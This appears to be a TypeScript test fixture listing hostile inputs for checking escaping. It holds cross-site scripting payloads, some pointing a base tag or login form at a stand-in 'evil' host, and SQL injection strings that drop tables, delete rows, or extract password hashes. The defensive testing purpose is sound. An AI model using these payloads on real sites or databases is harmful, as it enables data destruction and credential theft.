// Texts that are executed or interpreted where a page, a mail or a query does
// not escape them. Each fits into a name of 60 characters. A script that runs
// sets the global variable `hit` in its window.

const SCRIPTS = [
  // `npm test` shows the first one alone, which has the second one in it.
  "</script><script>hit=1</script>",
  "<script>hit=1</script>",
  "<!--<script>hit=1",
  "--><script>hit=1</script>",
  "]]><script>hit=1</script>",
  "</title><script>hit=1</script>",
  "</style><script>hit=1</script>",
  "</textarea><script>hit=1</script>",
  "<img src=x onerror=hit=1>",
  '"><img src=x onerror="hit=1">',
  "'><svg onload='hit=1'>",
  '" onfocus="hit=1" autofocus="',
  "' onmouseover='hit=1",
  "<iframe src=javascript:hit=1></iframe>",
  "<a href=javascript:hit=1>win</a>",
  "<math><mi xlink:href=javascript:hit=1>win",
  "<style>*{display:none}</style>",
  "<base href=//evil/>",
  "<meta http-equiv=refresh content=0>",
  "<form action=//evil/><button>Login</button>",
  "<template><script>hit=1</script></template>",
  "{{constructor.constructor('hit=1')()}}",
  "#{hit=1} $" + "{hit=1}",
  "<%= hit=1 %>",
  "`-(hit=1)-`",
  "\\'-(hit=1)//",
  "javascript:hit=1",
  "data:text/html,<script>hit=1</script>",
  "&lt;script&gt;hit=1&lt;/script&gt;",
  "&#60;script&#62;hit=1&#60;/script&#62;",
  "\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
  "%3Cscript%3Ehit=1%3C/script%3E",
  "[win](javascript:hit=1) **now**",
];

export const SQL_TEXTS = [
  "'; DROP TABLE products; --",
  "Robert'); DROP TABLE orders;--",
  "1; DELETE FROM charms; --",
  "' OR '1'='1",
  '" OR ""="',
  "') UNION SELECT password_hash FROM admins --",
  "\\'; UPDATE admins SET username='x'; --",
  "%' AND 1=0 --",
  "_%",
  "$1 ?1 :name",
  "x' AND randomblob(1000000000) --",
  "NULL",
];

/** Alternates scripts and SQL, so that any few texts include both kinds. */
export const HOSTILE_TEXTS: readonly string[] = SCRIPTS.flatMap((script, nth) =>
  [script, SQL_TEXTS[nth] ?? []].flat(),
);
